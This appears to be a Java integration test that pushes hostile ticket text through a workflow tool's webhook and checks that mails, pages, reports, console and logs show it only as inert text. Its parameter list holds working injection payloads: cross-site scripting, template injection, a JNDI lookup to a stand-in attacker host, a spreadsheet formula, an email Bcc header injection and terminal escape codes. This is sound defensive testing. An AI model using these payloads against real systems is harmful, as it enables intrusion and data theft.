package dev.pipewright.local.embedded;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.pipewright.core.json.Json;
import dev.pipewright.core.report.Report;
import dev.pipewright.core.report.ReportHeader;
import dev.pipewright.core.ticket.TicketSystem;
import dev.pipewright.decisions.record.LinkPurpose;
import dev.pipewright.local.asl.HistoryEvent;
import dev.pipewright.local.console.ConsoleServer;
import dev.pipewright.local.result.ResultText;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A ticket that would harm whoever shows it, through the signed webhook and the whole workflow to every place where its text
 * arrives: the mail, the decision page, names, events, the result, the reports, the console, the terminal, the log.
 */
class HostileTicketIT {

    /** In every text, so that a test sees where it arrives. */
    private static final String CANARY = "canary";

    private static final int LIMIT_SECONDS = 90;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "canary<script>alert(1)</script>",
                "canary<img src=x onerror=alert(1)>",
                "canary'\"></textarea><svg/onload=alert(1)>",
                "canary{{7*7}}${7*7}#{7*7}<%=7%>{% 7 %}$eval('7')",
                "canary${jndi:ldap://evil.example/a}",
                "canary[~admin] [x|https://evil.example] !x! {html}",
                "canary[x](https://evil.example) ![y](//evil.example)",
                "=canary+HYPERLINK(\"https://evil.example\")",
                "canary \ud83d\ude80\ud83d\udc68\u200d\ud83d\udc69 \u6771\u4eac",
                "canary\r\nBcc: evil@example.net\r\n\r\nx",
                "canary\u001b[2J\u009b31m\u0000\u202eYDAER\u200b"
            })
    void noTextOfATicketIsMoreThanTextAnywhere(String hostile) throws Exception {
        var asked = new CompletableFuture<String>();
        try (var pipewright =
                        EmbeddedPipewright.start(EmbeddedPipewright.Options.of(Samples.account(), Optional.empty()));
                var log = RecordedLog.start();
                var console = ConsoleServer.open(0)) {
            var webhook = pipewright.webhook(event -> {
                if (event instanceof HistoryEvent.WaitingForCallback waiting) {
                    asked.complete(waiting.state());
                }
            });
            console.serve(pipewright, Path.of("..", "events"));
            var reply =
                    webhook.deliver(TicketSystem.GENERIC, LocalWebhook.DEMO_SECRET, Instant.now(), payload(hostile));
            assertThat(reply.status()).as(reply.body()).isEqualTo(202);
            assertThat(Json.tree(reply.body()).path("requestId").asText()).matches("[A-Za-z0-9_-]{1,80}");
            var unusedState = asked.get(LIMIT_SECONDS, TimeUnit.SECONDS);

            var people = new PageClient();
            var link = pipewright.link(LinkPurpose.DECIDE).orElseThrow();
            assertIsText(people.get(link).body());
            assertIsText(people.post(link, PageClient.rejection(hostile, "analytics"))
                    .body());
            var arn = Json.tree(reply.body()).path("executionArn").asText();
            var unusedEnd = webhook.end(arn).get(LIMIT_SECONDS, TimeUnit.SECONDS);
            pipewright.awaitExecutionEnds();
            var result = Announcement.outcome(pipewright, arn).orElseThrow();

            assertMailsAreSafe(pipewright);
            assertEventsAreSafe(pipewright, result);
            assertReportsAreSafe(result);
            assertConsoleIsSafe(console.url());
            assertLogIsSilent(log.lines());
        }
    }

    private static void assertMailsAreSafe(EmbeddedPipewright pipewright) {
        assertThat(pipewright.mails()).isNotEmpty().allSatisfy(mail -> {
            assertThat(mail.subject()).doesNotContain(CANARY).matches("\\P{C}+");
            assertThat(mail.to()).allMatch(to -> to.endsWith("@example.com"));
            assertThat(mail.tags().toString()).doesNotContain(CANARY);
            assertThat(unseen(mail.text())).isEmpty();
            assertIsText(mail.html());
        });
        assertThat(pipewright.mails().toString()).contains(CANARY);
    }

    /** An event is JSON: what it says is what was said, and its envelope holds none of it. */
    private static void assertEventsAreSafe(EmbeddedPipewright pipewright, JsonNode result) {
        assertThat(Announcement.all(pipewright)).isNotEmpty().allSatisfy(announcement -> {
            assertThat(announcement
                            .event()
                            .toString()
                            .replace(announcement.detail().toString(), ""))
                    .doesNotContain("\r", "\u001b");
            assertThat(announcement.detail().path("metadata").toString()).matches("[ -~]+");
        });
        assertThat(result.path("outcome").asText()).isEqualTo("REJECTED");
        assertThat(result.path("ticket").path("id").asText()).contains(CANARY);
        assertThat(unseen(ResultText.of(result, "x"))).isEmpty();
    }

    private static void assertReportsAreSafe(JsonNode result) {
        var report = Report.of(result, new ReportHeader("a ticket", "123456789012", "eu-central-1", Instant.EPOCH));
        assertIsText(report.html());
        assertThat(unseen(report.html() + report.markdown())).isEmpty();
        assertThat(outsideOfFences(report.markdown()))
                .contains("rejected")
                .doesNotContain("<script", "<img", "<svg", "](http", "](//");
    }

    /** A block of code shows what was said as it was said; a character after a backslash is text. */
    private static String outsideOfFences(String markdown) {
        return markdown.replaceAll("(?s)(`{3,})\\w*\\n.*?\\n\\1", "").replaceAll("\\\\.", "");
    }

    private static void assertConsoleIsSafe(String url) {
        var browser = new PageClient();
        for (var path : List.of("/", "/mails", "/mails/1", "/mails/1/html", "/events")) {
            var page = browser.get(url.replaceAll("/+$", "") + path);
            assertThat(page.statusCode()).as(path).isEqualTo(200);
            assertIsText(page.body());
        }
        assertThat(browser.answers().toString()).contains(CANARY);
    }

    /** Names and outcomes are logged; no words of others, and each line is one. */
    private static void assertLogIsSilent(List<String> lines) {
        assertThat(lines.stream().filter(line -> line.matches("(?s)(INFO|WARN|ERROR) dev\\.pipewright\\..*")))
                .isNotEmpty()
                .allSatisfy(line -> assertThat(line.strip().replaceAll("hook-generic-[A-Za-z0-9_-]+", ""))
                        .doesNotContain("\n", "\r", "\u001b", "jndi", "script", "evil")
                        .doesNotContain("Bcc"));
    }

    private static void assertIsText(String html) {
        assertThat(html).doesNotContain("<script", "<img src=x", "<svg/onload", "href=\"https://evil", "src=\"//evil");
        assertThat(unseen(html)).isEmpty();
    }

    private static List<String> unseen(String text) {
        return text.codePoints()
                .filter(point -> point != '\n' && point != '\r')
                .filter(point -> List.of(
                                (int) Character.CONTROL, (int) Character.FORMAT, (int) Character.LINE_SEPARATOR, (int)
                                        Character.PARAGRAPH_SEPARATOR)
                        .contains(Character.getType(point)))
                .mapToObj(point -> "U+%04X".formatted(point))
                .toList();
    }

    private static byte[] payload(String hostile) {
        var request = (ObjectNode) Samples.request("postgres-new-secret");
        request.remove("requestedBy");
        ((ObjectNode) request.path("connection"))
                .put("description", hostile.replaceAll("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}]", " "));
        var payload = Json.mapper().createObjectNode().put("type", "connection.requested");
        var data = payload.putObject("data");
        data.putObject("ticket").put("id", hostile);
        data.putObject("requester").put("id", hostile).put("email", "dana@example.com");
        data.set("request", request);
        return Json.write(payload).getBytes(StandardCharsets.UTF_8);
    }
}
